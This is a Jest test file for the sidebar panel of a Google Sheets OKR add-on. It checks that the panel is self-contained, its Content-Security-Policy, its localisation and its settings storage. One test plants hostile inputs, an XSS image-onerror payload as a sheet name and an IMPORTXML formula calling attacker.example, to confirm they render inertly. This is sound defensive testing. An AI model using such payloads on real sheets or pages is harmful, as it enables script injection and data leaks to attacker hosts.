/**
 * The built Sidebar.html: one self-contained file, running the shared panel over google.script.run, wired here to
 * the built server code (the same loaded project), the way HtmlService serves it.
 */
import { createHash } from 'crypto';
import { JSDOM } from 'jsdom';
import * as fx from '../../fixtures/sheets';
import { distFile, loadProject, plain, type LoadedProject } from './harness';

/** google.script.run for the page: async, JSON-serialised arguments and results, errors to the failure handler. */
function scriptRun(p: LoadedProject, calls: string[]) {
  const runner = (ok?: (v: unknown) => void, fail?: (e: unknown) => void): any =>
    new Proxy(
      {},
      {
        get(_t, prop: string) {
          if (prop === 'withSuccessHandler') return (f: (v: unknown) => void) => runner(f, fail);
          if (prop === 'withFailureHandler') return (f: (e: unknown) => void) => runner(ok, f);
          return (...args: unknown[]) => {
            calls.push(prop);
            setTimeout(() => {
              try {
                const out = p.call(prop, ...plain(args));
                ok?.(out === undefined ? undefined : plain(out));
              } catch (e) {
                fail?.(new Error(String((e as Error).message)));
              }
            }, 0);
          };
        },
      },
    );
  return runner();
}

async function until(cond: () => boolean, what: string, ms = 5000): Promise<void> {
  const end = Date.now() + ms;
  while (!cond()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 10));
  }
}

function openSidebar(p: LoadedProject) {
  const calls: string[] = [];
  const dom = new JSDOM(distFile('Sidebar.html'), {
    runScripts: 'dangerously',
    beforeParse(window) {
      (window as any).google = { script: { run: scriptRun(p, calls) } };
    },
  });
  const doc = dom.window.document;
  const root = doc.getElementById('root')!;
  return { dom, doc, root, calls };
}

describe('Sidebar.html', () => {
  test('is one self-contained file: inline script and style only, no external URL', () => {
    const html = distFile('Sidebar.html');
    const dom = new JSDOM(html);
    const doc = dom.window.document;
    const scripts = Array.from(doc.querySelectorAll('script'));
    expect(scripts.length).toBeGreaterThanOrEqual(1);
    for (const s of scripts) expect(s.getAttribute('src')).toBeNull();
    expect(doc.querySelectorAll('link[rel=stylesheet], link[href]').length).toBe(0);
    expect(html).not.toMatch(/(src|href)\s*=\s*["']?(https?:)?\/\//i);
    expect(doc.getElementById('root')).not.toBeNull();
  });

  test('has a Content-Security-Policy that runs only its own inline script, by hash (no inline handlers)', () => {
    const doc = new JSDOM(distFile('Sidebar.html')).window.document;
    const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '';
    const directives = new Map(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v] as [string, string[]]),
    );
    expect(directives.get('default-src')).toEqual(["'none'"]);
    const scriptSrc = directives.get('script-src') ?? [];
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    expect(scriptSrc).not.toContain("'unsafe-eval'");
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    const code = doc.querySelector('script')!.textContent ?? '';
    const hash = `'sha256-${createHash('sha256').update(code, 'utf8').digest('base64')}'`;
    expect(scriptSrc).toContain(hash);
  });

  const HOSTILE_SHEET = '<img src=x onerror="window.__pwned=1">';

  test('runs the panel over google.script.run; findings with hostile text are shown as text; a click selects the cell', async () => {
    const grid = fx.englishTable.map((r) => r.slice());
    grid[10][4] = '=IMPORTXML("http://attacker.example/x","//a")';
    const p = loadProject({ locale: 'en_US' }, (b) => b.addSheet(HOSTILE_SHEET, grid));
    const { dom, doc, root, calls } = openSidebar(p);
    await until(() => root.dataset.state === 'ready', 'the panel to load');
    expect(calls).toContain('panelLocale');
    expect(root.dataset.lang).toBe('en');

    const validate = root.querySelector('button[data-command="validate"]') as HTMLButtonElement;
    expect(validate).not.toBeNull();
    validate.click();
    await until(
      () => root.querySelectorAll('.okr-finding').length > 0 && root.dataset.state === 'ready',
      'the findings',
    );
    expect(calls).toContain('panelRun');

    const items = Array.from(root.querySelectorAll('.okr-finding'));
    const value = items.find((li) => li.querySelector('.okr-where')?.textContent === `${HOSTILE_SHEET}!J12`);
    expect(value).toBeDefined();
    expect(value!.textContent).toMatch(/"about half" is not a number/);
    // the sheet name was shown as text: no element was created from it, nothing ran
    expect(doc.querySelectorAll('img').length).toBe(0);
    expect((dom.window as any).__pwned).toBeUndefined();

    p.book.activeRange = null; // validate itself selected the first finding
    (value as HTMLElement).click();
    await until(() => p.book.activeRange !== null, 'the selection');
    expect(p.book.activeRange).toEqual({ sheet: HOSTILE_SHEET, a1: 'J12' });
    dom.window.close();
  });

  test('a Chinese spreadsheet gets the panel in Chinese, and convert reports in Chinese', async () => {
    const p = loadProject({ locale: 'zh_CN' }, (b) => b.addSheet('10月OKR', fx.chineseOutline));
    const { dom, root } = openSidebar(p);
    await until(() => root.dataset.state === 'ready', 'the panel to load');
    expect(root.dataset.lang).toBe('zh');
    (root.querySelector('button[data-command="convert"]') as HTMLButtonElement).click();
    await until(
      () => p.book.sheets.length === 2 && root.dataset.state === 'ready' && /已创建/.test(root.textContent || ''),
      'the convert message',
    );
    expect(root.textContent).toMatch(/原大纲未改动|已创建/);
    dom.window.close();
  });

  test('settings saved in the panel are stored in DocumentProperties', async () => {
    const p = loadProject({}, (b) => b.addSheet('S', [['x']]));
    const { dom, root } = openSidebar(p);
    await until(() => root.dataset.state === 'ready', 'the panel to load');
    const form = root.querySelector('form') as HTMLFormElement;
    expect(form).not.toBeNull();
    const red = form.elements.namedItem('red') as HTMLInputElement;
    expect(Number(red.value)).toBeCloseTo(0.4, 10); // the default, as loaded through panelGetSettings
    red.value = '0.3';
    (form.querySelector('[data-command="save-settings"]') as HTMLButtonElement).click();
    await until(() => !!p.fake.documentProperties.store['okrGrid.settings'], 'the settings to be saved');
    const stored = JSON.parse(p.fake.documentProperties.store['okrGrid.settings']);
    expect(stored.bands.red).toBeCloseTo(0.3, 10);
    expect(stored.bands.yellow).toBeCloseTo(0.7, 10);
    // The language was left on "Automatic": none is stored, so it keeps following the spreadsheet's locale.
    expect(stored).not.toHaveProperty('lang');
    dom.window.close();

    p.book.locale = 'zh_CN';
    const again = openSidebar(p);
    await until(() => again.root.dataset.state === 'ready', 'the panel to load again');
    expect(again.root.dataset.lang).toBe('zh');
    expect((again.root.querySelector('[name="lang"]') as HTMLSelectElement).value).toBe('auto');
    again.dom.window.close();
  });
});
